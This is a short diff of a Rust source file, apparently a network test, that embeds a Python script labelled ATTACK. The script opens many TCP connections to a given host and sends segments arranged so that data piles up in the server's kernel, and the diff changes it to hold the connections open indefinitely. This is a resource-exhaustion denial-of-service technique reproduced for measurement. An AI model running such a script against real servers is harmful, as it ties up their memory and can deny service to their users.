@@ -16,7 +16,7 @@ const CONNECTIONS: usize = 20;
 /// Sends a segment and more behind it on each connection. The router drops segments that begin with AAAA, so the others wait
 /// behind a missing one in the server's kernel.
 const ATTACK: &str = "\
-import socket, sys, time
+import signal, socket, sys
 connections = []
 for _ in range(int(sys.argv[3])):
     connection = socket.create_connection((sys.argv[1], int(sys.argv[2])))
@@ -25,7 +25,7 @@ for _ in range(int(sys.argv[3])):
     connection.send(b'B' * 40000)
     connections.append(connection)
 print('sent', flush=True)
-time.sleep(60)
+signal.pause()
 ";
 
 /// Returns the received bytes with overhead that the kernel holds for the connections in this state.
